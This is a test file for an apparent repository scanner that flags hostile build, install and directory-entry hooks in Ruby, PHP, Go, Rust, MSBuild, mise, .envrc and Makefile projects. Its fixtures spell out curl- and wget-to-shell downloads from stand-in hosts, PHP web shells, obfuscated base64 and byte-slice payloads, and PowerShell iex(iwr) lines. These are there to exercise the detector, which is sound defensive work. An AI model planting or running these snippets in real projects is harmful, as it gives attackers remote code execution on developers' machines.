import type { AgentFinding, AgentResult } from '@vigil/core';
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../sandbox/src/test-support/temp-dirs.js';
import { analyzeRepository } from './repositories/analyze-repository.js';
import { foldGoStrings } from './repositories/go-init-findings.js';
import { foldPhpStrings, foldRubyStrings, gemspecExtensions, rakeDefaultLines } from './repositories/script-language-findings.js';
import { makeDefaultRecipeLines } from './repositories/build-hook-findings.js';
import { tomlStrings } from './code/toml-strings.js';

const repo = async (files: Record<string, string>): Promise<AgentResult> => analyzeRepository({ dir: await dirWith(files), track: 'repositories', bundleHash: null });
const titles = (r: AgentResult) => r.findings.map((f: AgentFinding) => `${f.severity} ${f.title}`);

// Round r19-langs: build, install and open-time code in Ruby, PHP, Go, Rust, MSBuild and directory hooks.
describe('string constructions folded', () => {
  it('Go byte slices, base64, hex and concatenation', () => {
    expect(foldGoStrings('x := string([]byte{115, 104})')).toBe('x := "sh"');
    expect(foldGoStrings('d, _ := base64.StdEncoding.DecodeString("Y3VybA==")')).toBe('d, _ := "curl"');
    expect(foldGoStrings('exec.Command("/bin/" + "sh")')).toBe('exec.Command("/bin/sh")');
    expect(foldGoStrings('f([]byte{1, 2})')).toBe('f("\u0001\u0002")');
  });
  it('Ruby Base64, unpack, pack and reverse; PHP decode chains', () => {
    expect(foldRubyStrings('eval(Base64.decode64("cHV0cyAx"))')).toBe('eval("puts 1")');
    expect(foldRubyStrings('"hsab/nib/".reverse')).toBe('"/bin/bash"');
    expect(foldRubyStrings('[115, 104].pack("c*")')).toBe('"sh"');
    expect(foldPhpStrings("eval(strrev('1 ohce'))")).toBe('eval("echo 1")');
    expect(foldPhpStrings(`eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from('echo 1;')).toString('base64')}')))`)).toBe('eval("echo 1;")');
  });
  it('gemspec extensions, Rakefile default lines, Makefile default goal, TOML strings', () => {
    expect(gemspecExtensions("s.extensions = ['ext/a/extconf.rb']\ns.extensions << 'ext/b/extconf.rb'\ns.extensions = %w[ext/c/extconf.rb]")).toEqual(['ext/a/extconf.rb', 'ext/b/extconf.rb', 'ext/c/extconf.rb']);
    const rake = "require 'x'\ntask default: [:a]\ntask :a do\n  sh 'one'\nend\ntask :b do\n  sh 'two'\nend\n";
    const lines = rakeDefaultLines(rake);
    expect(lines.has(4)).toBe(true);
    expect(lines.has(7)).toBe(false);
    const make = makeDefaultRecipeLines('V := 1\nall: dep\n\techo all\n\ndep:\n\techo dep\n\nother:\n\techo other\n');
    expect([...make].sort()).toEqual([3, 6]);
    expect(tomlStrings('[hooks]\nenter = "a"\n[target.x86_64-unknown-linux-gnu]\nrunner = ["./r.sh", "-v"]\n').map((s) => `${s.key}=${s.value}`)).toEqual(['hooks.enter=a', 'target.x86_64-unknown-linux-gnu.runner=./r.sh', 'target.x86_64-unknown-linux-gnu.runner=-v']);
  });
});

describe('Ruby', () => {
  it('a gem extension build fetching and running code is CRIT; one that probes headers is not', async () => {
    const gemspec = "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.extensions = ['ext/extconf.rb']\nend\n";
    const bad = await repo({ 'x.gemspec': gemspec, 'ext/extconf.rb': "require 'mkmf'\nsystem('curl -s https://h.example/s | sh')\ncreate_makefile('x')\n" });
    expect(titles(bad)).toContain('CRIT gem native extension build (run by gem install): downloads code from the network and runs it');
    const evals = await repo({ 'x.gemspec': gemspec, 'ext/extconf.rb': "require 'net/http'\nsrc = Net::HTTP.get(URI('https://h.example/r'))\neval(src)\n" });
    expect(titles(evals)).toContain('CRIT Ruby code downloads code and evaluates it');
    const ok = await repo({ 'x.gemspec': gemspec, 'ext/extconf.rb': "require 'mkmf'\nhave_header('zlib.h')\ncreate_makefile('x')\n", 'lib/x.rb': 'def sha = `git rev-parse HEAD`\n' });
    expect(ok.verdict).toBe('ALLOW');
  });
  it('a decoded program evaluated: CRIT when it runs commands', async () => {
    const payload = Buffer.from('system("curl -s https://h.example/p | sh")').toString('base64');
    const r = await repo({ 'lib/x.rb': `eval(Base64.decode64("${payload}"))\n` });
    expect(titles(r)).toContain('CRIT Ruby code decodes a hidden program and evaluates it');
  });
});

describe('PHP', () => {
  it('Composer event scripts are build steps; artisan and callbacks are not findings', async () => {
    const bad = await repo({ 'composer.json': JSON.stringify({ scripts: { 'post-install-cmd': 'curl -s https://h.example/p | bash' } }) });
    expect(titles(bad)).toContain('CRIT Composer post-install-cmd script (runs on composer install): downloads code from the network and runs it');
    const ok = await repo({ 'composer.json': JSON.stringify({ scripts: { 'post-autoload-dump': ['Illuminate\\Foundation\\ComposerScripts::postAutoloadDump', '@php artisan package:discover --ansi'], test: 'phpunit' } }) });
    expect(ok.verdict).toBe('ALLOW');
  });
  it('code fetched and evaluated, request data run, a decoded program evaluated', async () => {
    expect(titles(await repo({ 'a.php': "<?php\n$c = file_get_contents('https://h.example/x');\neval($c);\n" }))).toContain('CRIT PHP code downloads code and evaluates it');
    expect(titles(await repo({ 'b.php': "<?php\n@eval($_POST['x']);\n" }))).toContain('CRIT PHP code runs request data as code (a web shell)');
    expect(titles(await repo({ 'c.php': "<?php\nsystem($_GET['cmd']);\n" }))).toContain('CRIT PHP code runs request data as a shell command (a web shell)');
    expect((await repo({ 'd.php': "<?php\nexec('convert ' . escapeshellarg($_GET['f']) . ' out.png');\n" })).verdict).toBe('ALLOW');
  });
});

describe('Go', () => {
  it('an init whose shell command is a byte slice is CRIT; go:generate curl|sh is CRIT, stringer nothing', async () => {
    const cmd = [...Buffer.from('wget -O - https://h.example/s | /bin/bash &')].join(',');
    const r = await repo({ 'x.go': `package x\nimport "os/exec"\nfunc init() {\n\texec.Command("/bin/sh", "-c", string([]byte{${cmd}})).Start()\n}\n` });
    expect(titles(r)).toContain('CRIT Go init() downloads and runs code when the package is imported');
    expect(titles(await repo({ 'g.go': 'package g\n//go:generate sh -c "curl -s https://h.example/g | sh"\n' }))).toContain('CRIT go:generate directive: downloads code from the network and runs it');
    expect((await repo({ 'g.go': 'package g\n//go:generate stringer -type=Color\ntype Color int\n' })).verdict).toBe('ALLOW');
  });
});

describe('Rust', () => {
  it('build.rs writing a download or an embedded blob and running it is CRIT; cc::Build is not', async () => {
    expect(titles(await repo({ 'build.rs': 'fn main() {\n let b = reqwest::blocking::get("https://h.example/p").unwrap().bytes().unwrap();\n let p = std::env::temp_dir().join("p");\n std::fs::write(&p, &b).unwrap();\n std::process::Command::new(&p).spawn().unwrap();\n}\n' }))).toContain('CRIT build script downloads a program and runs it');
    expect(titles(await repo({ 'build.rs': 'const P: &[u8] = include_bytes!("a.bin");\nfn main() {\n let p = std::env::temp_dir().join("x");\n std::fs::write(&p, P).unwrap();\n std::process::Command::new(&p).spawn().unwrap();\n}\n' }))).toContain('CRIT build script writes an embedded program to disk and runs it');
    expect((await repo({ 'build.rs': 'fn main() { cc::Build::new().file("a.c").compile("a"); }\n' })).verdict).toBe('ALLOW');
  });
  it('a Cargo rustc-wrapper in the repository is read as code that runs by itself', async () => {
    const r = await repo({ '.cargo/config.toml': '[build]\nrustc-wrapper = "tools/w.sh"\n', 'tools/w.sh': '#!/bin/sh\ncurl -s https://h.example/w | sh >/dev/null 2>&1 &\nexec "$@"\n' });
    expect(titles(r)).toContain('LOW Cargo configuration runs a repository program on every build');
    expect(r.verdict).toBe('BLOCK');
  });
});

describe('MSBuild and directory hooks', () => {
  it('a PreBuildEvent <Command> running iex(iwr) is CRIT; npm run build is not', async () => {
    expect((await repo({ 'X.vcxproj': '<Project><ItemDefinitionGroup><PreBuildEvent><Command>powershell -c "iex (iwr \'https://h.example/s.ps1\')"</Command></PreBuildEvent></ItemDefinitionGroup></Project>\n' })).verdict).toBe('BLOCK');
    expect((await repo({ 'W.csproj': '<Project><Target Name="N" BeforeTargets="Build"><Exec Command="npm run build" /></Target></Project>\n' })).verdict).toBe('ALLOW');
  });
  it('mise enter hooks, .envrc and the Makefile default goal', async () => {
    expect(titles(await repo({ 'mise.toml': '[hooks]\nenter = "curl -s https://h.example/m | sh"\n' }))).toContain('CRIT mise hook (runs on entering the directory): downloads code from the network and runs it');
    expect((await repo({ '.envrc': 'curl -fsSL https://h.example/e | bash\n' })).verdict).toBe('BLOCK');
    expect((await repo({ '.envrc': 'layout python\nuse nix\ndotenv\n', 'mise.toml': '[tools]\nnode = "20"\n' })).verdict).toBe('ALLOW');
    expect((await repo({ Makefile: 'all:\n\tcurl -s http://203.0.113.5/x | sh\n' })).verdict).toBe('BLOCK');
    expect((await repo({ Makefile: 'schema:\n\tcurl -fsSL https://h.example/api.json -o build/api.json && node scripts/gen.js build/api.json\n' })).verdict).toBe('ALLOW');
  });
});
